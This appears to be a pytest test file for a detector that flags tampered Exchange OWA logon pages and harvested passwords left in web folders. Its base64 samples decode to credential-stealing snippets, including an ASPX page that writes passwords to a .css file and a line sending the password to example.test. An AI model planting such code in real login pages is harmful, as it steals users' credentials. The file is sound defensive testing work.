"""Logon pages that hand passwords on, and what collectors leave in web folders. Samples are in base64, one call each."""

from __future__ import annotations

import base64
import time

import pytest

from afterpatch.detect.files.driver import analyse_file
from afterpatch.detect.files.item import FileContext, FileFinding
from afterpatch.detect.files.logon import logon_lines, password_way
from afterpatch.knowledge.baseline import baseline

from .conftest import EXCHANGE, OWA_AUTH, make_item, unb64

SAMPLES = {
    "image": (
        "ZnVuY3Rpb24gY2xrTGduKCkgewogdmFyIHAgPSBnYmlkKCdwYXNzd29yZCcpLnZhbHVlOwogdmFyIHEgPSAnL293YS9hdXRoL3guZ2lmP3E9Jy"
        "ArIGVzY2FwZShwKTsKIG5ldyBJbWFnZSgpLnNyYyA9IHE7CiByZXR1cm4gdHJ1ZTsKfQ=="
    ),
    "xhr": (
        "ZnVuY3Rpb24gY2xrTGduKCkgewogdmFyIHU9ZG9jdW1lbnQuZ2V0RWxlbWVudEJ5SWQoInVzZXJuYW1lIiksIHc9ZG9jdW1lbnQuZ2V0RWxlbW"
        "VudEJ5SWQoInBhc3N3b3JkIik7CiB2YXIgcj1uZXcgWE1MSHR0cFJlcXVlc3QoKTsKIHIub3BlbignUE9TVCcsJy9vd2EvYXV0aC9lLmFzcHgn"
        "LHRydWUpOwogdmFyIGJvZHk9J3U9Jyt1LnZhbHVlKwogICcmcD0nK3dbJ3ZhbHVlJ107CiByLnNlbmQoYnRvYShib2R5KSk7Cn0="
    ),
    "fetch": ("ZmV0Y2goJy94Jywge21ldGhvZDogJ1BPU1QnLCBib2R5OiBuZXcgRm9ybURhdGEoZG9jdW1lbnQuZm9ybXNbMF0pfSk7"),
    "cookie": (
        "dmFyIHAgPSBkb2N1bWVudC5sb2dvbkZvcm0ucGFzc3dvcmQudmFsdWU7IGRvY3VtZW50LmNvb2tpZSA9ICdsb2dvbmRhdGEyPScgKyBidG9hKHApOw=="
    ),
    "storage": ("dmFyIHo9ZG9jdW1lbnQuZm9ybXNbMF0ucGFzc3dvcmRUZXh0LnZhbHVlOyBsb2NhbFN0b3JhZ2Uuc2V0SXRlbSgnYScsIHopOw=="),
    "server": (
        "PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPgo8c2NyaXB0IHJ1bmF0PSJzZXJ2ZXIiPgp2b2lkIFBhZ2VfTG9hZChvYmplY3QgcywgRXZlbnRBcm"
        "dzIGUpIHsKIHN0cmluZyBwID0gUmVxdWVzdC5Gb3JtWyJwYXNzd29yZCJdOwogc3RyaW5nIGxpbmUgPSBSZXF1ZXN0LkZvcm1bInVzZXJuYW1l"
        "Il0gKyAifCIgKyBwOwogU3lzdGVtLklPLkZpbGUuQXBwZW5kQWxsVGV4dChTZXJ2ZXIuTWFwUGF0aCgidGVzdC5jc3MiKSwgbGluZSk7Cn08L3"
        "NjcmlwdD4="
    ),
    "escaped": (
        "dmFyIHAgPSBkb2N1bWVudC5nZXRFbGVtZW50QnlJZCgncGFzc1x4NzdvcmQnKS52YWx1ZTsKKG5ldyBJbWFnZSgpKS5zcmMgPSAnLy9leGFtcG"
        "xlLnRlc3QvJyArIHA7"
    ),
}
CLEAN = """
function clkLgn() {
  var oPwd = gbid("password"), oUser = gbid("username");
  if (oUser.value == "" || oPwd.value.length > 127) { alert("..."); return false; }
  document.cookie = "logondata=acc=1; expires=" + new Date().toGMTString();
  var img = new Image(); img.src = "/owa/auth/15.2.792/themes/resources/lgnbotl.gif";
  var oXhr = new XMLHttpRequest(); oXhr.open("GET", "/owa/ping.owa", true); oXhr.send(null);
  gbid("password").focus();
  document.logonForm.submit();
}
"""


def _ids(path: str, content: bytes, context: FileContext | None = None) -> dict[str, FileFinding]:
    return {each.detection: each for each in analyse_file(make_item(path, content), context or FileContext())}


@pytest.mark.parametrize(
    ("name", "line"), [("image", 4), ("xhr", 7), ("fetch", 1), ("cookie", 1), ("storage", 1), ("server", 6), ("escaped", 2)]
)
def test_where_a_password_goes(name: str, line: int) -> None:
    way = password_way(unb64(SAMPLES[name]).decode())
    assert way is not None
    assert way.line == line


def test_in_place(context: FileContext) -> None:
    found = _ids(OWA_AUTH + "15.2.792\\scripts\\premium\\flogon.js", unb64(SAMPLES["image"]), context)[
        "login-page-takes-password"
    ]
    assert (found.severity, found.kind, found.line) == ("critical", "modified-file", 4)
    assert dict(found.facts)["through"] == "p, q"
    assert "login-page-takes-password" in _ids(OWA_AUTH + "logon.aspx", unb64(SAMPLES["server"]), context)
    assert "login-page-takes-password" not in _ids("C:\\inetpub\\wwwroot\\shop\\login.aspx", unb64(SAMPLES["server"]), context)


def test_ordinary_logon_script_is_silent() -> None:
    assert password_way(CLEAN) is None
    assert _ids(OWA_AUTH + "15.2.792\\scripts\\premium\\flogon.js", CLEAN.encode()) == {}


def test_names_in_strings_do_not_count() -> None:
    assert password_way("var p = gbid('password').value; x.send('p'); y.open('the p');") is None


def test_cost_is_bounded() -> None:
    text = "var p = gbid('password').value;\n" + "".join(f"a{number}=b{number}+(c;\n" for number in range(60_000))
    started = time.process_time()
    password_way(text)
    password_way("gbid('password')" + "(" * 400_000)
    assert time.process_time() - started < 8  # one to two seconds on a quiet machine


LINES = "\n".join(f"contoso\\user{number}\tSecret{number}!" for number in range(5))
FORM = "\n".join(f"2021-03-0{number} destination=x&username=u{number}&password=p{number}" for number in range(1, 6))


@pytest.mark.parametrize("text", [LINES, FORM, "\n".join(base64.b64encode(line.encode()).decode() for line in FORM.split("\n"))])
def test_collected_logons(text: str, context: FileContext) -> None:
    found = _ids(OWA_AUTH + "Current\\themes\\resources\\owafont.css", text.encode(), context)["logon-data-in-web-folder"]
    assert found.severity == "high"
    assert "Secret" not in repr(found)
    assert "p1" not in repr(found)


def test_ordinary_texts_hold_no_logons() -> None:
    assert logon_lines("body { margin: 0 }\n.user { color: red }\n#password { width: 10px }")[0] == 0
    log = "2021-03-03 06:00:00 10.0.0.1 GET /owa/ - 443 CONTOSO\\user1 10.0.0.2 Mozilla 200\n"
    assert logon_lines(log * 5)[0] == 0
    assert logon_lines("https://example.test/a\tb\nfoo@example.test, bar\n")[0] == 0


def test_every_stock_path_has_no_logon_finding_without_content() -> None:
    context = FileContext(baseline=baseline())
    for path in list(baseline().paths())[::20]:
        assert "login-page-takes-password" not in _ids(EXCHANGE.rstrip("\\") + path, CLEAN.encode(), context)
